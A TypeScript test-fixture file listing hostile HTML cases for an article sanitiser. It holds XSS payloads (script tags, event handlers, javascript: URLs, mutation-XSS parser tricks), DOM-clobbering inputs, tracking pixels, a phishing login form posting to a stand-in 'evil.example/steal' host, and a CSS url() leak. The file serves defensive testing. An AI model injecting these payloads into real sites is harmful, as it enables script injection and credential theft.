/**
 * Hostile inputs written for Sourcelight (not copied from any list), so the
 * sanitiser tests mean something without ../shared/corpus. Each case names
 * what must be gone (`absent`, checked on the re-parsed output's HTML,
 * lower-cased) and what article text must survive (`keep`).
 * The generic safety check (support/safety.ts) runs on every case too.
 */
export interface HostileCase {
  name: string;
  html: string;
  absent?: string[];
  keep?: string[];
  /** Substrings the output HTML must contain (e.g. a promoted image URL). */
  present?: string[];
}

export const HOSTILE_CASES: HostileCase[] = [
  // Script in all its forms.
  { name: 'script element', html: '<p>Lead</p><script>window.__xss("script")</script>', absent: ['<script', '__xss'], keep: ['Lead'] },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script><p>Body</p>', absent: ['<script', 'evil.example'], keep: ['Body'] },
  { name: 'uppercase and slash-spaced script', html: '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT><p>ok</p>', absent: ['<script', 'evil.example'] },
  { name: 'script inside svg', html: '<svg><script>window.__xss("svg")</script><circle r="4"/></svg><p>t</p>', absent: ['<svg', '<script', '__xss'] },
  { name: 'script inside math', html: '<math><mi>a</mi><script>window.__xss(1)</script></math>', absent: ['<script', '__xss'], keep: ['a'] },
  { name: 'template content', html: '<template><img src=x onerror="window.__xss(2)"></template><p>after</p>', absent: ['onerror', '<template'], keep: ['after'] },
  // Event handlers.
  { name: 'img onerror', html: '<img src="x" onerror="window.__xss(3)">', absent: ['onerror', '__xss'] },
  { name: 'body onload', html: '<body onload="window.__xss(4)"><p>text</p></body>', absent: ['onload'], keep: ['text'] },
  { name: 'details ontoggle', html: '<details open ontoggle="window.__xss(5)"><summary>More</summary>hidden</details>', absent: ['ontoggle'], keep: ['More'] },
  { name: 'autofocus onfocus', html: '<p tabindex="0" autofocus onfocus="window.__xss(6)">focus me</p>', absent: ['onfocus', 'autofocus', 'tabindex'], keep: ['focus me'] },
  { name: 'handler with odd separators', html: '<p/onmouseover=window.__xss(7)>hover</p><p\x0conclick=window.__xss(8)>x</p>', absent: ['onmouseover', 'onclick'] },
  { name: 'animation handler on allowed tag', html: '<p style="animation:spin 1s" onanimationstart="window.__xss(9)">spin</p>', absent: ['onanimationstart', 'style'] },
  // URL schemes.
  { name: 'javascript link', html: '<a href="javascript:window.__xss(10)">click</a>', absent: ['javascript:'], keep: ['click'] },
  { name: 'javascript link with entities, tab and case', html: '<a href="JaVa&#x09;Sc&#10;RiPt&colon;window.__xss(11)">a</a><a href=" &#106;avascript:window.__xss(12)">b</a>', absent: ['javascript', 'script:'] },
  { name: 'vbscript and data links', html: '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>window.__xss(13)</script>">d</a>', absent: ['vbscript', 'data:'] },
  { name: 'blob, file and custom schemes', html: '<a href="blob:https://a.example/1">b</a><a href="file:///etc/passwd">f</a><a href="intent://x#Intent;end">i</a><a href="chrome-extension://abc/p.html">c</a>', absent: ['blob:', 'file:', 'intent:', 'chrome-extension:'] },
  { name: 'data image and svg image', html: '<img src="data:image/svg+xml,<svg onload=window.__xss(14)>"><img src="data:image/png;base64,iVBORw0KGgo=">', absent: ['data:', '<img'] },
  { name: 'javascript in srcset', html: '<img src="https://img.example/a.jpg" srcset="javascript:window.__xss(15) 1x, https://img.example/b.jpg 2x">', absent: ['javascript'] },
  { name: 'formaction and form-associated button', html: '<form id="f"></form><button form="f" formaction="javascript:window.__xss(16)">Go</button><p>t</p>', absent: ['formaction', '<button', '<form'] },
  // Embedded browsing contexts and plugins.
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>parent.__xss(17)</script>"></iframe><p>x</p>', absent: ['<iframe', 'srcdoc'] },
  { name: 'object and embed', html: '<object data="https://evil.example/x.swf"><param name="a" value="b">fallback</object><embed src="https://evil.example/e">', absent: ['<object', '<embed', 'evil.example', 'fallback'] },
  { name: 'frameset', html: '<frameset><frame src="javascript:window.__xss(18)"></frameset>', absent: ['<frame', 'javascript'] },
  { name: 'media with sources', html: '<video poster="https://t.example/p.jpg" src="https://t.example/v.mp4"><track src="https://t.example/t.vtt"></video><audio src="https://t.example/a.mp3"></audio>', absent: ['<video', '<audio', 'poster', 't.example'] },
  // Forms and phishing.
  { name: 'login form', html: '<form action="https://evil.example/steal"><p>Your session expired. Sign in again.</p><input name="user"><input type="password" name="pw"><button>Sign in</button></form><p>Story</p>', absent: ['<form', '<input', 'session expired', 'password'], keep: ['Story'] },
  { name: 'stray controls', html: '<p>Pick <select><option>One</option></select> <textarea>typed</textarea> <input type="checkbox"></p>', absent: ['<select', '<textarea', '<input', 'typed'], keep: ['Pick'] },
  // Styles and CSS exfiltration.
  { name: 'style element', html: '<style>p{background:url(https://t.example/leak)}</style><p>styled</p>', absent: ['<style', 't.example'], keep: ['styled'] },
  { name: 'inline style overlay', html: '<a href="https://evil.example/" style="position:fixed;inset:0;opacity:0">cover</a>', absent: ['style', 'position'] },
  { name: 'link stylesheet and meta refresh', html: '<link rel="stylesheet" href="https://t.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"><p>p</p>', absent: ['<link', '<meta', 'refresh'] },
  { name: 'base element', html: '<base href="https://evil.example/"><a href="/next">next</a>', absent: ['<base', 'evil.example'] },
  // DOM clobbering and attributes the reader must not carry.
  { name: 'clobbering ids and names', html: '<img name="getElementById" src="https://img.example/a.jpg"><a id="location" href="https://a.example/">l</a><p id="body" name="title">t</p>', absent: [' id=', ' name='] },
  { name: 'class, data and aria attributes', html: '<p class="hidden" data-track="1" aria-hidden="true" role="alert" hidden>visible</p>', absent: ['class=', 'data-track', 'aria-hidden', 'role=', 'hidden'], keep: ['visible'] },
  { name: 'target and rel from the page', html: '<a href="https://a.example/" target="_top" rel="opener">x</a>', absent: ['_top', 'opener"'] },
  { name: 'ping attribute', html: '<a href="https://a.example/" ping="https://t.example/ping">x</a>', absent: ['ping', 't.example'] },
  // Mutation XSS and parser differentials.
  { name: 'noscript differential', html: '<noscript><p title="</noscript><img src=x onerror=window.__xss(19)>"></noscript>', absent: ['onerror', '<noscript'] },
  { name: 'svg style namespace confusion', html: '<svg></p><style><a id="</style><img src=1 onerror=window.__xss(20)>">', absent: ['onerror', '<svg', '<style'] },
  { name: 'math mglyph confusion', html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=window.__xss(21)&gt;">', absent: ['onerror'] },
  { name: 'comment breakout', html: '<!--><img src=x onerror=window.__xss(22)>--><p>after</p>', absent: ['onerror', '<!--'] },
  { name: 'xmp and plaintext', html: '<xmp><img src=x onerror=window.__xss(23)></xmp><plaintext><script>1</script>', absent: ['onerror', '<script', '<xmp', '<plaintext'] },
  // Trackers and beacons.
  { name: 'facebook noscript pixel', html: '<noscript><img height="1" width="1" style="display:none" src="https://www.facebook.com/tr?id=1&ev=PageView"></noscript><p>t</p>', absent: ['facebook.com/tr', '<img'] },
  { name: 'hidden and tiny pixels', html: '<img src="https://cdn.example/a.gif" width="1" height="1"><img src="https://cdn.example/b.gif" hidden><img src="https://cdn.example/c.gif" style="visibility:hidden"><img src="https://cdn.example/d.gif" style="width:1px;height:1px"><img src="https://cdn.example/e.gif" width="0">', absent: ['<img'] },
  { name: 'beacon hosts', html: '<img src="https://www.google-analytics.com/collect?v=1&t=pageview"><img src="https://ad.doubleclick.net/ddm/x"><img src="https://pixel.quantserve.com/pixel/p-1.gif"><img src="https://stats.example/beacon.gif">', absent: ['<img'] },
  // Clobbering aimed at the sanitiser's own pre-pass (lazy images, pixels, nesting).
  { name: 'clobbered document and form methods', html: '<img name="createElement" src="https://img.example/1.jpg" width="600" height="400"><img name="body" src="https://img.example/2.jpg">' +
      '<img name="importNode" src="https://img.example/3.jpg"><img name="createTreeWalker" src="https://img.example/4.jpg"><img name="createTextNode" src="https://img.example/5.jpg">' +
      '<img name="querySelectorAll" src="https://img.example/6.jpg"><form name="getElementsByTagName"><input name="replaceChild"><input name="removeChild"><input name="children">' +
      '<img src="https://www.facebook.com/tr?id=1" width="1" height="1"></form>' +
      '<figure><img src="data:image/gif;base64,AA" alt="Lazy"><noscript><img src="https://img.example/real.jpg"></noscript></figure><p>Story text</p>',
    keep: ['Story text'], absent: ['name=', 'facebook.com', '<form'], present: ['https://img.example/real.jpg', 'https://img.example/1.jpg', 'https://img.example/6.jpg'] },
  // Text-level tricks.
  { name: 'bidi override', html: '<p>Open invoice\u202Egpj.exe</p><img src="https://img.example/a.jpg" alt="x\u202Ey">', absent: ['\u202e'], keep: ['invoice'] },
  { name: 'entity-encoded markup stays text', html: '<p>&lt;script&gt;window.__xss(24)&lt;/script&gt;</p>', absent: ['<script'], keep: ['<script>'] },
];
